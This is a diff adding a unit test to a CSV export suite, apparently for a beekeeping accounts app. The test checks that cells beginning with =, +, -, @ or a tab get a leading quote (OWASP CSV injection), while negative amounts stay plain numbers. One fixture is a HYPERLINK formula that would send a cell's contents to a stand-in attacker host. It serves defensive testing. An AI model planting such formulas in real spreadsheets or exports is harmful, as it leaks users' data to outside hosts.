@@ -80,6 +80,31 @@ describe('CSV cells', () => {
     );
     expect(csv).toBe('\uFEFFname,seen,note\r\n"Bramble, ""east""",true,\r\nZoë,false,"two\nlines"\r\n');
   });
+
+  it('neutralises a text that would start a formula, and leaves negative amounts numbers (OWASP CSV injection)', () => {
+    const csv = csvOf(
+      [
+        { header: 'name', cell: (row: { name: string; amount: string }) => row.name },
+        { header: 'amount', cell: (row) => row.amount },
+      ],
+      [
+        { name: '=HYPERLINK("http://evil.example/?"&A1,"x")', amount: '-12.50' },
+        { name: '+1 frame of brood', amount: '3.00' },
+        { name: '-wax', amount: '-0.05' },
+        { name: '@SUM(A1:A9)', amount: '0.00' },
+        { name: '\tTabbed', amount: '1.00' },
+        { name: 'Golden Comb', amount: '2.00' },
+      ],
+    );
+    expect(csv.split('\r\n').slice(1, -1)).toEqual([
+      `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-12.50`,
+      "'+1 frame of brood,3.00",
+      "'-wax,-0.05",
+      "'@SUM(A1:A9),0.00",
+      "'\tTabbed,1.00",
+      'Golden Comb,2.00',
+    ]);
+  });
 });
 
 describe('the profit and loss', () => {
